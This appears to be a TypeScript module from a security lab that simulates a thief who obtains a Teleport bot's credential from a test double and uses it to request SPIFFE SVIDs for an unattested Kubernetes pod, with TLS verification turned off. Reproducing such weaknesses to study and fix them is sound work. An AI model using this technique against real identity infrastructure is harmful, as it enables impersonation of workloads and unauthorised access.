import { generateKeyPairSync, X509Certificate } from "node:crypto";
import { request as httpRequest } from "node:http";
import { request as httpsRequest } from "node:https";
import { join } from "node:path";
import { NODE_IP, TELEPORT_PORT } from "../../../../lab/cluster/addresses.ts";
import { labPaths } from "../../../../lab/machine/paths.ts";

/** A working credential of a bot in the hands of somebody else. */
export interface StolenCredential {
  readonly certificate: string;
  readonly key: string;
  readonly expires: Date;
}

/**
 * What a thief does with a bot's own credential, which tbot has in its memory: asks Teleport for a working one.
 *
 * @param life as Go writes durations, "48h"
 * @throws an Error with the double's words if it refuses
 */
export async function steal(botName: string, life: string): Promise<StolenCredential> {
  const { certificate, key, expires } = await post<{ certificate: string; key: string; expires: string }>(
    httpRequest,
    { socketPath: join(labPaths().teleportData, "admin.sock"), path: "/v1/steal" },
    { bot_name: botName, ttl: life },
  );
  return { certificate, key, expires: new Date(expires) };
}

/**
 * Uses it: asks for the SVID of a pod that was never attested, since Teleport takes a bot's word for that.
 *
 * @throws an Error with the double's words if it refuses
 */
export async function forge(stolen: StolenCredential, account: { namespace: string; name: string }) {
  const { publicKey } = generateKeyPairSync("ec", { namedCurve: "P-256" });
  const answer = await post<{ credentials: { spiffe_id: string; certificate: string }[] }>(
    httpsRequest,
    {
      host: NODE_IP,
      port: TELEPORT_PORT,
      path: "/v1/issue",
      cert: stolen.certificate,
      key: stolen.key,
      ALPNProtocols: ["teleport-auth@"],
      // The thief trusts its victim's server.
      rejectUnauthorized: false,
    },
    {
      labels: { env: ["dev"] },
      public_key: publicKey.export({ type: "spki", format: "der" }).toString("base64"),
      workload: { kubernetes: { attested: true, namespace: account.namespace, service_account: account.name } },
    },
  );
  return answer.credentials.map(({ spiffe_id, certificate }) => ({
    spiffeId: spiffe_id,
    certificate: new X509Certificate(Buffer.from(certificate, "base64")),
  }));
}

/** Posts JSON and reads JSON; throws an Error with the answer's message unless its status is 200. */
function post<Answer>(request: typeof httpsRequest, options: object, body: unknown): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const call = request(
      { ...options, method: "POST", headers: { "content-type": "application/json" } },
      (response) => {
        let text = "";
        response.setEncoding("utf8").on("data", (chunk: string) => {
          text += chunk;
        });
        response.on("error", reject).on("end", () => {
          if (response.statusCode !== 200) reject(new Error(JSON.parse(text).error.message));
          else resolve(JSON.parse(text) as Answer);
        });
      },
    );
    call.on("error", reject);
    call.end(JSON.stringify(body));
  });
}
